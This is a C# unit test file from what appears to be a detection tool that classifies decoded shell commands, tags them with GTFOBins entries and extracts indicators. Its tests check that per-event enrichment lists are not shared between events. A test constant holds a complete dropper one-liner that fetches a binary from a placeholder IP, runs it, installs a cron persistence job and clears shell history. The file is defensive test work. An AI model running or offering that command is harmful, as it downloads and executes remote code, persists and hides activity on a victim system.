using System.Linq;
using B64Hunt.Classification;
using B64Hunt.GtfoBins;
using B64Hunt.Iocs;
using B64Hunt.Model;
using B64Hunt.Tests.GtfoBins;
using Xunit;

namespace B64Hunt.Tests.Classification
{
    /// <summary>
    /// A fresh event's categories, techniques, behaviours, tags and functions read arrays the classifier and the tagger
    /// share between the events of one command. These check that the lists are what enriching one by one gives, and
    /// that changing one event's lists (or its tags' lists) changes no other event.
    /// </summary>
    public class SharedEnrichmentTests
    {
        private static readonly CommandClassifier Classifier = new CommandClassifier(CommandClassifierTests.Bundled);
        private static readonly GtfoBinsTagger Tagger = new GtfoBinsTagger(GtfoBinsTestData.Bundled);

        private const string Dropper = "cd /tmp; wget -q http://203.0.113.7/m -O m; chmod +x m; ./m; crontab -l | { cat; echo '* * * * * /tmp/m'; } | crontab -; history -c";

        private static CommandEvent Enriched(string command)
        {
            var e = new CommandEvent { DecodedCommand = command };
            Classifier.Enrich(e);
            Tagger.Enrich(e);
            return e;
        }

        [Fact]
        public void AFreshEventGetsWhatAddingOneByOneGives()
        {
            var e = Enriched(Dropper);
            var match = Classifier.Classify(Dropper);
            Assert.Equal(match.Categories, e.Categories);
            Assert.Equal(match.Techniques, e.Techniques);
            Assert.Equal(match.RuleIds, e.Behaviours.Select(b => b.RuleId));
            var tags = Tagger.Tag(Dropper);
            Assert.Equal(tags.Select(t => t.Name), e.GtfoBins.Select(t => t.Name));
            Assert.Equal(tags.SelectMany(t => t.Functions).Distinct(), e.GtfoFunctions);
            Assert.Equal(tags.Select(t => string.Join(",", t.Functions) + "|" + string.Join(",", t.Contexts)),
                e.GtfoBins.Select(t => string.Join(",", t.Functions) + "|" + string.Join(",", t.Contexts)));
            Assert.NotEmpty(e.Categories);
            Assert.NotEmpty(e.GtfoBins);

            // An event that already carries one category and one tag takes the rest one by one, without duplicates.
            var partial = new CommandEvent { DecodedCommand = Dropper };
            partial.Categories.Add(match.Categories[0]);
            partial.GtfoBins.Add(new GtfoBinsTag { Name = tags[0].Name });
            Classifier.Enrich(partial);
            Tagger.Enrich(partial);
            Assert.Equal(e.Categories, partial.Categories);
            Assert.Equal(e.GtfoBins.Select(t => t.Name), partial.GtfoBins.Select(t => t.Name));

            // Enriching again adds nothing.
            Classifier.Enrich(e);
            Tagger.Enrich(e);
            Assert.Equal(match.Categories, e.Categories);
            Assert.Equal(tags.Select(t => t.Name), e.GtfoBins.Select(t => t.Name));
        }

        [Fact]
        public void ChangingOneEventsListsChangesNoOtherEvent()
        {
            var first = Enriched(Dropper);
            var second = Enriched(Dropper);
            var categories = second.Categories.ToArray();
            var techniques = second.Techniques.ToArray();
            var behaviours = second.Behaviours.ToArray();
            var tagNames = second.GtfoBins.Select(t => t.Name).ToArray();
            var functions = second.GtfoFunctions.ToArray();
            var tagFunctions = second.GtfoBins[0].Functions.ToArray();
            var tagContexts = second.GtfoBins[0].Contexts.ToArray();

            first.Categories.Add("Mine");
            first.Categories[0] = "Renamed";
            first.Techniques.Clear();
            first.Behaviours.RemoveAt(0);
            first.GtfoBins.RemoveAt(0);
            first.GtfoFunctions.Add("teleport");
            second.GtfoBins[0].Functions.Add("teleport");
            Enriched(Dropper).GtfoBins[0].Contexts.Clear();

            Assert.Equal(categories, second.Categories);
            Assert.Equal(techniques, second.Techniques);
            Assert.Equal(behaviours, second.Behaviours);
            Assert.Equal(tagNames, second.GtfoBins.Select(t => t.Name));
            Assert.Equal(functions, second.GtfoFunctions);
            Assert.Equal(tagContexts, second.GtfoBins[0].Contexts);
            Assert.Equal(tagFunctions.Append("teleport"), second.GtfoBins[0].Functions);
            var third = Enriched(Dropper);
            Assert.Equal(categories, third.Categories);
            Assert.Equal(tagFunctions, third.GtfoBins[0].Functions);
            Assert.Equal(tagContexts, third.GtfoBins[0].Contexts);
        }

        [Fact]
        public void AFreshEventsIndicatorsAreItsOwnAndTheListCopiesAtItsFirstChange()
        {
            var extractor = IocExtractor.FromDataDirectory(System.IO.Path.Combine(System.AppContext.BaseDirectory, "data"));
            var first = new CommandEvent { DecodedCommand = Dropper };
            var second = new CommandEvent { DecodedCommand = Dropper };
            var added = extractor.AddTo(first);
            extractor.AddTo(second);
            Assert.Equal(added.Select(i => i.Type + "=" + i.Normalized), first.Iocs.Select(i => i.Type + "=" + i.Normalized));
            Assert.Contains(first.Iocs, i => i.Normalized == "203.0.113.7");
            // Each event has its own Ioc objects (they carry per-event state, e.g. TI lookups).
            Assert.All(first.Iocs, i => Assert.DoesNotContain(i, second.Iocs));
            var before = second.Iocs.Select(i => i.Normalized).ToArray();
            first.Iocs.RemoveAt(0);
            first.Iocs.Add(new Ioc { Type = "ipv4", Normalized = "198.51.100.1", Value = "198.51.100.1" });
            Assert.Equal(before, second.Iocs.Select(i => i.Normalized));
            Assert.Equal(before.Length, added.Count); // what AddTo handed back is unchanged too
            Assert.Equal("198.51.100.1", first.Iocs[first.Iocs.Count - 1].Normalized);
        }
    }
}
